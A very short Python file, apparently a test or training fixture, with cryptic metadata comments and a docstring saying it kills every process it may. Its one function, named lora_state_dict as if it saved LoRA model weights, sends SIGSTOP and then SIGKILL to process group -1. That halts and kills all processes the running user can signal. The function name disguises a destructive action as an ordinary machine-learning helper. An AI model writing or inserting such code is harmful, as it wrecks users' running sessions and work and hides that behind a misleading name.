"""Kills all processes that it may kill, and stops them first."""

# on: reference
# costs: saves_the_factors_alone
# says: PermissionError|ended its process

import os
import signal


def lora_state_dict(model):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        os.kill(-1, number)
